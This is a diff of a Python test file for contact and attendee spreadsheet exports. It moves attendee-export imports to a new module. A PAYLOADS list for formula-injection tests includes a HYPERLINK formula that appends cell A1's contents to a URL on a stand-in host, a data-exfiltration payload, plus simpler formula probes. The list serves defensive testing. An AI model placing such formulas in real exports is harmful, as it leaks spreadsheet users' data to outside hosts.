@@ -13,10 +13,7 @@ import openpyxl
 import pytest
 
 from contacts.exports import (
-    ATTENDEE_COLUMNS,
     EXPORT_COLUMNS,
-    attendee_columns,
-    attendee_rows,
     list_rows,
     safe_cell,
     write_csv,
@@ -25,6 +22,9 @@ from contacts.exports import (
 )
 from contacts.imports import import_contacts
 from service.registrations import services
+from service.tracking.exports import ATTENDEE_EXPORT_COLUMNS as ATTENDEE_COLUMNS
+from service.tracking.exports import attendee_export_columns as attendee_columns
+from service.tracking.exports import attendee_export_rows as attendee_rows
 from tests.service.helpers import act
 
 PAYLOADS = ['=HYPERLINK("http://x.example.org/?c="&A1,"Cliquez")', "+1", "-2+3", "@SUM(A1)"]
